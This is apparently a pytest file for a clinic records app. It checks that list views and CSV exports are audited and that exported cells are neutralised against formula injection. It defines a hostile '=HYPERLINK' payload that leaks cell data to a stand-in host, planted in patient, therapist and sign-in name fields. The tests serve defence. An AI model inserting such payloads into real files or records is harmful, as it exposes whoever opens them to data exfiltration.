"""Issue 15, items 6 and 8: the tables' own downloads, and list views audited.

Each list page (caseload, compliance, audit log) writes one ``list.view``
event per visit and per change of filters, none on a rerun; each of their CSV
downloads is built only when asked for, writes its ``export.csv`` event then
(also when the file is fetched without the click), and neutralises formulas:
a patient, a therapist and a sign-in name of ``=HYPERLINK(...)`` come out
prefixed. Runs on SQLite, and on PostgreSQL with TEST_DATABASE_URL.
"""
from __future__ import annotations

import csv
import io
import json
import tomllib
from pathlib import Path

import pytest
from sqlalchemy import select, update

from db import audit
from db.engine import session_factory
from db.models import AuditEvent, Patient, Staff
from tests.apptest_support import clinic_app
from tests.download_support import download, signed_in_browser  # noqa: F401 (fixture)
from tests.record_fixtures import AS_OF, build_clinic
from ui.access import CURRENT_USER_KEY, CurrentUser
from ui.caseload_view import DOWNLOAD_KEY as CASELOAD_DL
from ui.compliance_view import DOWNLOAD_KEY as THERAPISTS_DL
from ui.downloads import AUDIT_LOG_DOWNLOAD_KEY, EXPORT_ACTION, LIST_VIEW_ACTION

ROOT = Path(__file__).resolve().parent.parent
NAV = "tests/list_view_nav_app.py"
HOSTILE = '=HYPERLINK("http://x.invalid/?leak="&A1,"open")'


def _url(engine) -> str:
    return engine.url.render_as_string(hide_password=False)


@pytest.fixture
def clinic(engine, signed_in_browser):
    """The hand-built clinic, an admin, and hostile text where a spreadsheet would run it."""
    with session_factory(engine)() as s:
        c = build_clinic(s)
        s.add(Staff(username="adm", full_name="Ada Admin", role="admin", active=True))
        s.execute(update(Patient).where(Patient.patient_id == "KAP-NC")
                  .values(first_name=HOSTILE))
        s.execute(update(Staff).where(Staff.id == c.ther_a).values(full_name=HOSTILE))
        # An anonymous sign-in attempt plants a formula in the trail (as db.auth records it).
        audit.record(s, HOSTILE, "auth.login_failed", reason="bad credentials",
                     known_user=False)
        s.commit()
        users = {u.username: CurrentUser(u.id, u.username, u.full_name, u.role)
                 for u in s.scalars(select(Staff))}
    return _url(engine), users


def _app(url, user: CurrentUser):
    at = clinic_app(NAV, url, today=AS_OF)
    at.session_state[CURRENT_USER_KEY] = user
    return at


def _events(url, action: str, **detail) -> list[dict]:
    from db.engine import make_engine

    engine = make_engine(url)
    try:
        with session_factory(engine)() as s:
            rows = s.scalars(select(AuditEvent).where(AuditEvent.action == action)
                             .order_by(AuditEvent.id)).all()
            found = [json.loads(e.detail) | {"_actor": e.actor} for e in rows]
    finally:
        engine.dispose()
    return [d for d in found if all(d.get(k) == v for k, v in detail.items())]


def _go(at, page: str):
    return at.switch_page(f"../pages/{page}.py").run()


def _ok(at):
    assert not at.exception, at.exception
    return at


def test_builtin_table_export_is_off():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def test_caseload_views_once_per_visit_and_filter(clinic):
    url, users = clinic
    at = _ok(_app(url, users["md"]).run())  # the first page: Caseloads
    views = _events(url, LIST_VIEW_ACTION, list="caseload")
    assert len(views) == 1
    first = views[0]
    assert first["_actor"] == "md" and first["therapist"] == "All therapists"
    assert first["rows"] == first["matching"] > 0
    _ok(at.run())
    _ok(at.run())
    assert len(_events(url, LIST_VIEW_ACTION, list="caseload")) == 1  # reruns are not views
    _ok(at.selectbox(key="caseload_therapist").select(users["ther_b"].id).run())
    views = _events(url, LIST_VIEW_ACTION, list="caseload")
    assert len(views) == 2 and views[-1]["therapist"] == "Bo Therapist"
    assert views[-1]["rows"] == 1
    _ok(at.text_input(key="caseload_search").input("Bea").run())
    _ok(at.run())
    views = _events(url, LIST_VIEW_ACTION, list="caseload")
    assert len(views) == 3 and views[-1]["search"] == "Bea"
    # Nothing matches: still a view (of no rows), and its reruns still are not.
    _ok(at.text_input(key="caseload_search").input("nobody-by-this-name").run())
    _ok(at.run())
    views = _events(url, LIST_VIEW_ACTION, list="caseload")
    assert len(views) == 4 and views[-1]["rows"] == 0
    # Away and back is a new visit, with the same filters or not.
    _ok(_go(at, "compliance"))
    assert len(_events(url, LIST_VIEW_ACTION, list="caseload")) == 4
    _ok(_go(at, "caseload"))
    _ok(at.run())
    assert len(_events(url, LIST_VIEW_ACTION, list="caseload")) == 5


def test_therapist_caseload_view_and_download(clinic):
    url, users = clinic
    at = _ok(_app(url, users["ther_a"]).run())
    (view,) = _events(url, LIST_VIEW_ACTION, list="caseload")
    assert view["therapist"] == "ther_a" and view["rows"] == len(at.dataframe[0].value)
    assert not _events(url, EXPORT_ACTION)  # drawing the button built no file
    text = download(at, CASELOAD_DL)
    rows = list(csv.DictReader(io.StringIO(text)))
    nora = next(r for r in rows if r["chart"] == "KAP-NC")
    assert nora["first_name"] == "'" + HOSTILE
    assert {r["therapist"] for r in rows} == {"'" + HOSTILE}
    assert "KAP-B1" not in {r["chart"] for r in rows}  # another therapist's patient
    (export,) = _events(url, EXPORT_ACTION)
    assert export["_actor"] == "ther_a" and export["what"] == "caseload"
    assert export["rows"] == len(rows) and export["therapist"] == "ther_a"
    # Fetched again (a second click, or a client replaying the request): audited again.
    download(at, CASELOAD_DL)
    assert len(_events(url, EXPORT_ACTION)) == 2
    assert len(_events(url, LIST_VIEW_ACTION, list="caseload")) == 1


def test_compliance_views_and_by_therapist_download(clinic):
    url, users = clinic
    at = _ok(_go(_ok(_app(url, users["md"]).run()), "compliance"))
    views = _events(url, LIST_VIEW_ACTION, list="compliance")
    assert len(views) == 1 and views[0]["scope"] == "Whole clinic"
    assert {"period", "exceptions", "therapists", "rows"} <= set(views[0])
    _ok(at.run())
    assert len(_events(url, LIST_VIEW_ACTION, list="compliance")) == 1
    _ok(at.selectbox(key="compliance_period").select("Last year").run())
    _ok(at.run())
    assert len(_events(url, LIST_VIEW_ACTION, list="compliance")) == 2
    text = download(at, THERAPISTS_DL)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert "'" + HOSTILE in {r["therapist"] for r in rows}
    (export,) = _events(url, EXPORT_ACTION, what="compliance by therapist")
    assert export["rows"] == len(rows) and export["_actor"] == "md"


def test_audit_log_views_and_export(clinic):
    url, users = clinic
    at = _ok(_go(_ok(_app(url, users["adm"]).run()), "audit_log"))
    views = _events(url, LIST_VIEW_ACTION, list="audit log")
    assert len(views) == 1 and views[0]["page"] == 1 and views[0]["matching"] >= 1
    _ok(at.run())
    assert len(_events(url, LIST_VIEW_ACTION, list="audit log")) == 1
    _ok(at.selectbox(key="audit_action").select("auth.login_failed").run())
    _ok(at.run())
    views = _events(url, LIST_VIEW_ACTION, list="audit log")
    assert len(views) == 2 and views[-1]["filter_action"] == "auth.login_failed"
    assert views[-1]["rows"] == views[-1]["matching"] == 1
    text = download(at, AUDIT_LOG_DOWNLOAD_KEY)
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["user"] == "'" + HOSTILE  # the planted sign-in name cannot run
    (export,) = _events(url, EXPORT_ACTION, what="audit log")
    assert export["_actor"] == "adm" and export["rows"] == 1
    assert export["filter_action"] == "auth.login_failed"


def test_users_list_download(clinic, monkeypatch):
    from tests.record_care_apptest import run_page
    from ui.downloads import USERS_DOWNLOAD_KEY

    url, users = clinic
    at = run_page("pages/users.py", "adm", monkeypatch, url)
    assert not at.exception, at.exception
    assert not _events(url, EXPORT_ACTION)
    rows = list(csv.DictReader(io.StringIO(download(at, USERS_DOWNLOAD_KEY))))
    assert {r["username"] for r in rows} == set(users)
    assert next(r for r in rows if r["username"] == "ther_a")["full_name"] == "'" + HOSTILE
    assert all("$2" not in v for r in rows for v in r.values())  # no password hash
    (export,) = _events(url, EXPORT_ACTION)
    assert export["_actor"] == "adm" and export["what"] == "staff accounts"
    assert export["rows"] == len(rows)


def test_after_signing_out_no_file_is_built_and_the_request_is_audited(clinic):
    from streamlit.runtime.media_file_storage import MediaFileStorageError

    from tests.download_support import APPTEST_SESSION
    from ui import http_guard

    url, users = clinic
    at = _ok(_app(url, users["ther_a"]).run())
    with pytest.raises(MediaFileStorageError, match="not signed in"):
        # Drawn while signed in; the browser session signs out; the file is asked for.
        download(at, CASELOAD_DL, before_fetch=lambda: http_guard.revoke(APPTEST_SESSION))
    assert not _events(url, EXPORT_ACTION)
    (denied,) = _events(url, "access.denied", page="(export)")
    assert denied["_actor"] == "ther_a" and denied["what"] == "caseload"
